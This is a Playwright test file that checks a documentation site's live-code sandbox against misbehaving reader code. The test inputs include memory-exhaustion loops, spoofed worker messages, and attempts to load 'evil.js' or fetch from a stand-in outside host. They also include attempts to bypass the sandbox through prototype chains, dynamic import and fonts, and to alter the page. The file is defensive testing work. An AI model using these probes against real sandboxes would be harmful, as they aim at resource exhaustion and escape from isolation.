/**
 * Live examples that misbehave, in chromium: code a reader can type into an example (or a shared
 * playground link can carry) that allocates without bound, loops, throws what is not an Error,
 * talks to the worker's channel to the page or closes the worker, reaches for the network, or
 * looks for the page. For each: the failure shows in the example's own alert with a clear
 * message, the page answers and takes clicks meanwhile, nothing is requested from another host,
 * and the example runs normally right after.
 */
import { after, before, describe, it, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import type { Browser, Page } from 'playwright-core';

import { useSiteUnderTest } from './harness';
import { editAndRun, example, renderedFeatures } from './live-example-helpers';
import { rawPageOf } from './raw-page';
import { timeLimitMs } from '../../plugins/features/live-examples/runner/client';

interface AbuseCase {
  /** What the example does. */
  readonly name: string;
  readonly code: string;
  /** The message its alert shows; or, for code whose own run succeeds, the result it shows. */
  readonly shows: { alert: RegExp } | { result: string };
  /** Runs until the time limit stops it: the page is checked while it runs. */
  readonly runsUntilStopped?: boolean;
  /** Checks on the page after the case, for cases aimed at it. */
  readonly pageAfter?: (page: Page) => Promise<void>;
}

const outsider = 'https://example.com';
const stoppedAtTimeLimit = new RegExp(`TimeoutError: Stopped: the example ran longer than ${timeLimitMs / 1000} s\\.`);
const refusedNetwork = (what: string) =>
  new RegExp(`Error: Examples cannot use ${what.replace(/[()]/g, '\\$&')}: they run on Turf alone, without network access\\.`);
const refusedChannel = (what: string) => new RegExp(`Error: Examples cannot use ${what.replace(/[()]/g, '\\$&')}: `);

const memory: AbuseCase[] = [
  {
    name: 'doubles a string without bound',
    code: 'let text = "turf";\nwhile (true) text += text;',
    shows: { alert: /RangeError: Invalid string length \(line 2, column \d+\)/ },
  },
  { name: 'loops forever', code: 'while (true) {}', shows: { alert: stoppedAtTimeLimit }, runsUntilStopped: true },
];

/**
 * Memory an example takes without bound. A worker lives in its document's renderer process, and
 * when a worker's V8 heap runs out chromium ends that process. Examples run in workers of the
 * sandbox frame, which site isolation puts in a process apart from the page: the frame's process
 * ends, the page finds it silent, says so in the example's alert and keeps the reader's code, and
 * the next Run starts a fresh frame. Which of the outcomes a case reaches first (the heap limit,
 * the allocation failing with an error, or the time limit) depends on the machine's speed; the
 * page surviving, the message and the next run do not.
 */
const outOfMemory =
  /^OutOfMemoryError: The example ran out of memory and was stopped\. Your code is kept: Run starts it again in a fresh sandbox\.$/;
const anyOf = (...patterns: RegExp[]) => new RegExp(patterns.map((pattern) => `(?:${pattern.source})`).join('|'));
const memoryExhaustion: AbuseCase[] = [
  {
    // About 0.6 GB/s here: the heap limit (about 4 GB) or the time limit, whichever comes first.
    name: 'allocates arrays without bound',
    code: 'const kept = [];\nwhile (true) kept.push(new Array(1e6).fill(Math.random()));',
    shows: { alert: anyOf(outOfMemory, stoppedAtTimeLimit) },
  },
  {
    // ArrayBuffer memory comes from the process, outside the JavaScript heap.
    name: 'allocates buffers outside the JavaScript heap without bound',
    code: 'const kept = [];\nwhile (true) kept.push(new ArrayBuffer(1e9));',
    shows: { alert: anyOf(outOfMemory, /^RangeError: Array buffer allocation failed \(line 2, column \d+\)$/) },
  },
  {
    // Splitting a 128 MiB string asks for more than V8 allows at once: the process ends in 0.2 s.
    name: 'allocates past the heap limit at once',
    code: 'var kept = [];\nvar text = "x".repeat(2 ** 27);\nwhile (true) kept.push((text + kept.length).split(""));',
    shows: { alert: anyOf(outOfMemory, /^RangeError: /) },
  },
];

const thrownValues: AbuseCase[] = [
  {
    name: 'throws an Error',
    code: 'var line = turf.lineString([[0, 0], [1, 1]]);\nthrow new Error("boom");',
    shows: { alert: /^Error: boom \(line 2, column \d+\)$/ },
  },
  { name: 'throws a number', code: 'throw 42;', shows: { alert: /^Error: Uncaught 42$/ } },
  { name: 'throws null', code: 'throw null;', shows: { alert: /^Error: Uncaught null$/ } },
  { name: 'throws undefined', code: 'throw undefined;', shows: { alert: /^Error: Uncaught undefined$/ } },
  { name: 'throws a plain object', code: 'throw { code: 7 };', shows: { alert: /^Error: Uncaught \{"code":7\}$/ } },
  {
    name: 'throws a circular object',
    code: 'var loop = {};\nloop.self = loop;\nthrow loop;',
    shows: { alert: /^Error: Uncaught \[object Object\]$/ },
  },
  { name: 'throws a BigInt', code: 'throw 10n;', shows: { alert: /^Error: Uncaught 10n$/ } },
  {
    name: 'throws an Error whose message is an object',
    code: 'var error = new Error("boom");\nerror.message = { not: "text" };\nthrow error;',
    shows: { alert: /^Error: \{"not":"text"\} \(line 1, column \d+\)$/ },
  },
];

const runnerChannel: AbuseCase[] = [
  {
    name: 'posts messages to the page without end',
    code: 'while (true) self.postMessage("spam");',
    shows: { alert: refusedChannel('postMessage()') },
  },
  {
    // The page numbers runs from 1: these would pose as the outcome of this run or the next ones.
    name: 'posts messages that pose as run outcomes',
    code: 'for (var id = 1; id < 200; id++) postMessage({ type: "done", id: id, outcome: { ok: true } });',
    shows: { alert: refusedChannel('postMessage()') },
  },
  { name: 'closes its worker', code: 'close();', shows: { alert: refusedChannel('close()') } },
  {
    name: 'leaves a timer behind that never returns',
    code: 'var timer = setInterval(function () {\n  while (true) {}\n}, 0);',
    shows: { result: 'Result: timer' },
  },
  { name: "replaces the worker's message handler", code: 'self.onmessage = function () {};', shows: { result: 'Result: self.onmessage' } },
];

const network: AbuseCase[] = [
  {
    name: 'loads a script from another host',
    code: `importScripts("${outsider}/evil.js");`,
    shows: { alert: refusedNetwork('importScripts()') },
  },
  { name: 'fetches from another host', code: `fetch("${outsider}/");`, shows: { alert: refusedNetwork('fetch()') } },
  {
    name: 'fetches through the prototype chain',
    code: `WorkerGlobalScope.prototype.fetch.call(self, "${outsider}/");`,
    shows: { alert: refusedNetwork('fetch()') },
  },
  {
    name: 'loads a script through the prototype chain',
    code: `Object.getPrototypeOf(Object.getPrototypeOf(self)).importScripts.call(self, "${outsider}/evil.js");`,
    shows: { alert: refusedNetwork('importScripts()') },
  },
  {
    name: 'opens an XMLHttpRequest',
    code: `var request = new XMLHttpRequest();\nrequest.open("GET", "${outsider}/");\nrequest.send();`,
    shows: { alert: refusedNetwork('XMLHttpRequest') },
  },
  { name: 'starts a worker of its own', code: `new Worker("${outsider}/worker.js");`, shows: { alert: refusedNetwork('Worker') } },
  { name: 'opens a WebSocket', code: 'new WebSocket("wss://example.com/");', shows: { alert: refusedNetwork('WebSocket') } },
  { name: 'opens an EventSource', code: `new EventSource("${outsider}/events");`, shows: { alert: refusedNetwork('EventSource') } },
];

const thePage: AbuseCase[] = [
  {
    name: 'sets the document title',
    code: 'document.title = "hacked";',
    shows: { alert: /^ReferenceError: document is not defined \(line 1, column \d+\)$/ },
    pageAfter: async (page) => assert.notEqual(await page.title(), 'hacked'),
  },
  {
    name: 'navigates the window away',
    code: `window.location.href = "${outsider}/";`,
    shows: { alert: /^ReferenceError: window is not defined \(line 1, column \d+\)$/ },
    pageAfter: async (page) => assert.match(page.url(), /\/docs\/api\/along$/),
  },
  {
    name: 'writes to localStorage',
    code: 'localStorage.setItem("turf-docs-abuse", "written");',
    shows: { alert: /^ReferenceError: localStorage is not defined \(line 1, column \d+\)$/ },
    pageAfter: async (page) => assert.equal(await page.evaluate(() => localStorage.getItem('turf-docs-abuse')), null),
  },
];

/**
 * What a list of refused APIs cannot cover: a worker has more ways to the network than can be
 * listed (and `import()` is syntax). The Content-Security-Policy the server sends with the sandbox
 * frame, which its `blob:` workers inherit (server/headers-file.mjs, `connect-src 'none'`), covers them all: chromium refuses these
 * requests itself, and the harness does not count a request the browser refused.
 */
const networkGaps: AbuseCase[] = [
  {
    name: 'imports a module from another host',
    code: `var imported = import("${outsider}/evil.js").catch(function () {});`,
    shows: { result: 'Result: imported' },
  },
  {
    // The sandbox frame's origin is opaque, and an opaque origin has no CacheStorage at all.
    name: 'fetches into the cache from another host',
    code: `var cached = caches.open("abuse").then(function (cache) { return cache.add("${outsider}/"); }).catch(function () {});`,
    shows: { alert: /^ReferenceError: caches is not defined \(line 1, column \d+\)$/ },
  },
  {
    name: 'loads a font from another host',
    code: `var font = new FontFace("abuse", "url(${outsider}/font.woff)").load().catch(function () {});`,
    shows: { result: 'Result: font' },
  },
];

/** The page answers a round trip fast and a click on the navbar's colour mode switch takes effect. */
async function assertResponsive(page: Page, when: string): Promise<void> {
  const started = Date.now();
  assert.equal(await page.evaluate(() => 1 + 1), 2);
  const roundTripMs = Date.now() - started;
  assert.ok(roundTripMs < 1000, `${when}: the page took ${roundTripMs} ms to answer`);
  const theme = await page.locator('html').getAttribute('data-theme');
  await page.locator('.navbar button[aria-label^="Switch between dark and light mode"]').first().click();
  await page.waitForFunction((before) => document.documentElement.dataset.theme !== before, theme, { timeout: 2000 });
}

/**
 * Runs each case in turn on the first example of /docs/api/along, as a subtest of `t`: one page
 * for a group, since each case must leave the example working for the next one anyway.
 */
async function runCases(
  t: TestContext,
  withPage: ReturnType<typeof useSiteUnderTest>['withPage'],
  cases: readonly AbuseCase[],
): Promise<void> {
  await withPage('/docs/api/along', async (page) => {
    const origin = new URL(page.url()).origin;
    // Requests for another host that reach the network, from the page or its workers (where an
    // example's would come from), are recorded and aborted: nothing leaves, even on a machine
    // with a network. One the browser refuses itself (a Content-Security-Policy) never gets here.
    const foreign: string[] = [];
    await page.context().route(
      (url) => url.origin !== origin,
      (route) => {
        foreign.push(route.request().url());
        return route.abort();
      },
    );

    const scope = example(page);
    await renderedFeatures(scope);
    const result = scope.getByRole('region', { name: 'Example result' });
    for (const [index, abuse] of cases.entries()) {
      await t.test(`an example that ${abuse.name}`, async () => {
        foreign.splice(0); // an earlier case that failed may have left its requests here
        await editAndRun(page, scope, abuse.code);
        if (abuse.runsUntilStopped) {
          await scope.locator('[aria-label="Example result"][aria-busy="true"]').waitFor();
          await assertResponsive(page, `while the example ${abuse.name}`);
          assert.equal(await result.getAttribute('aria-busy'), 'true', 'the example was still running during the checks');
        } else {
          await assertResponsive(page, `after the example ${abuse.name} started`);
        }

        if ('alert' in abuse.shows) {
          // Up to the time limit, plus the worker's start on a loaded machine.
          const alert = scope.getByRole('group', { name: 'Error' });
          await alert.waitFor({ timeout: timeLimitMs + 10_000 });
          assert.match((await alert.innerText()).trim(), abuse.shows.alert);
        } else {
          await result.getByText(abuse.shows.result).waitFor({ timeout: 10_000 });
        }
        await abuse.pageAfter?.(page);

        // It runs normally again, on the same worker or a fresh one.
        const check = `check${index}`;
        await editAndRun(page, scope, `var ${check} = turf.distance([0, 0], [0, 1]);`);
        await result.getByText(`Result: ${check}`).waitFor({ timeout: timeLimitMs + 10_000 });
        assert.match(await result.innerText(), /111\.19/);
        assert.equal(await scope.getByRole('group', { name: 'Error' }).count(), 0);
        assert.deepEqual(foreign.splice(0), [], 'requests to other hosts');
      });
    }
  });
}

/** The example's alert text, read through the raw session. */
const alertText = (selector: string) =>
  `document.querySelector(${JSON.stringify(`${selector} [role="group"][aria-label="Error"]`)})?.innerText.trim() ?? ''`;

/**
 * One memory case on a page of its own, driven after the Run click through a DevTools session
 * that a crash of the sandbox frame's process leaves working (raw-page.ts): the page answers and
 * takes clicks, the alert says what happened, the reader's code is still in the editor, and the
 * next run works. Chromium's process list confirms that the frame had a process of its own.
 */
async function runMemoryCase(
  t: TestContext,
  withPage: ReturnType<typeof useSiteUnderTest>['withPage'],
  browser: Browser,
  abuse: AbuseCase,
): Promise<void> {
  await withPage('/docs/api/along', async (page) => {
    const scope = example(page);
    await renderedFeatures(scope);
    const raw = await rawPageOf(browser, page);
    try {
      await editAndRun(page, scope, abuse.code);
      const selector = '[data-live-example]';
      const processes = await browser.newBrowserCDPSession();
      const { targetInfos } = await processes.send('Target.getTargets');
      assert.ok(
        targetInfos.some((target) => target.type === 'iframe' && target.url.endsWith('/example-runner/')),
        'the sandbox frame runs out of process',
      );
      await processes.detach();

      // The page answers and takes a click while the example runs or after its frame is gone.
      const started = Date.now();
      assert.equal(await raw.evaluate<number>('1 + 1'), 2);
      assert.ok(Date.now() - started < 1000, `the page took ${Date.now() - started} ms to answer`);
      const theme = await raw.evaluate<string>('document.documentElement.dataset.theme');
      await raw.click('.navbar button[aria-label^="Switch between dark and light mode"]');
      await raw.waitFor<boolean>(`document.documentElement.dataset.theme !== ${JSON.stringify(theme)}`, 2000, 'the colour mode to switch');

      assert.ok('alert' in abuse.shows);
      const shown = await raw.waitFor<string>(alertText(selector), timeLimitMs + 15_000, "the example's alert");
      assert.match(shown, abuse.shows.alert);
      t.diagnostic(`shown: ${shown}`);
      const kept = await raw.evaluate<string>(`document.querySelector('${selector} .cm-content').innerText`);
      assert.equal(kept.replace(/\u00a0/g, ' '), abuse.code, "the reader's code is kept");

      // The next run works, in a fresh frame if the last one is gone.
      await raw.click(`${selector} .cm-content`);
      await raw.press('a', 'KeyA', { modifiers: 2, commands: ['selectAll'] });
      await raw.insertText('var again = turf.distance([0, 0], [0, 1]);');
      await raw.click(`${selector} button.button--primary`); // Run, while editing
      const result = await raw
        .waitFor<string>(
          `(() => { const text = document.querySelector('${selector} [aria-label="Example result"]')?.innerText ?? ''; return text.includes('Result: again') ? text : ''; })()`,
          timeLimitMs + 15_000,
          'the next run to show its result',
        )
        .catch(async (error: Error) => {
          // What the reader sees instead, and whether a sandbox frame is there, say where the run stopped.
          const state = await raw.evaluate<string>(
            `JSON.stringify({ panel: document.querySelector('${selector} [aria-label="Example result"]')?.innerText, alert: ${alertText(selector)}, frames: document.querySelectorAll('iframe[sandbox]').length, marks: performance.getEntriesByType('mark').map((mark) => mark.name).filter((name) => name.startsWith('example-')) })`,
          );
          throw new Error(`${error.message}; the page shows ${state}`);
        });
      assert.match(result, /111\.19/);
      assert.equal(await raw.evaluate<string>(alertText(selector)), '');
    } finally {
      await raw.detach();
    }
  });
}

describe('live examples that misbehave', () => {
  const { withPage, browser } = useSiteUnderTest({ before, after });

  it('contain a string that grows without bound and an endless loop', { timeout: 90_000 }, (t) => runCases(t, withPage, memory));
  it('show thrown values that are not Errors as text', { timeout: 90_000 }, (t) => runCases(t, withPage, thrownValues));
  it("keep the worker's channel to the page and its life to the runner", { timeout: 90_000 }, (t) => runCases(t, withPage, runnerChannel));
  it('reach no other host through the APIs a worker has for it', { timeout: 90_000 }, (t) => runCases(t, withPage, network));
  it('cannot reach the page', { timeout: 90_000 }, (t) => runCases(t, withPage, thePage));
  it('reach no other host through import(), caches or fonts', { timeout: 90_000 }, (t) => runCases(t, withPage, networkGaps));
  for (const abuse of memoryExhaustion) {
    it(`keep the page alive and the code when an example ${abuse.name}`, { timeout: 90_000 }, (t) =>
      runMemoryCase(t, withPage, browser(), abuse),
    );
  }
});
